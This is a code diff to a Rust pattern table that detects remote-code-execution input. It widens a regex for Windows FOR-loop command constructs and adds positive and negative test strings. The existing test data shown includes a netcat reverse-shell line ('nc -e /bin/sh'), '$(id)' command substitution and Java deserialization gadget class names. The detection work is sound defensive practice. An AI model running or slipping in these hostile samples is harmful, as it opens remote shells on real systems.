@@ -102,7 +102,7 @@ pub(super) static TABLE: PatternTable = PatternTable::new(&[
     // Unbounded classes, not `{0,n}`: counted repetitions multiply DFA states.
     (
         rule("rce-shell-construct", Rce, 1, Critical),
-        r":\s*\(\s*\)\s*\{[^}]*\|[^}]*\}|\bfor\s+(?:/[dfrl]\s+(?:\x22[^\x22]*\x22\s+)?)?%%?[a-z~\]]+\s+in\s*\([^)]*\)\s*do\b",
+        r":\s*\(\s*\)\s*\{[^}]*\|[^}]*\}|\bfor\s+(?:/[dfrl]\b[^%]*)?%%?[^\s%]+\s+in\s*\([^)]*\)\s*do\b",
     ),
     (
         rule("rce-command-substitution", Rce, 1, Critical),
@@ -346,6 +346,9 @@ mod tests {
             "nohup nc -e /bin/sh x 4444",
             "$(cat$())",
             "$(id)",
+            "for /r c:\\ %variable in (set) do command",
+            "FOR /L /L /L     %a IN (start,step,end) DO abc",
+            "& FOR %@ IN (a,b,c)DO cmd",
             "java.lang.Runtime",
             "com.opensymphony.xwork2.ActionContext",
             "org.apache.commons.collections.functors.InvokerTransformer",
@@ -406,6 +409,7 @@ mod tests {
             "$(this).hide()",
             "$(window).on('load', f)",
             "it is time to go",
+            "for 50% in (most) cases do this",
             "java and javascript are different languages",
             "the Runtime of the movie is 2h",
             "the exec (executive) team met",
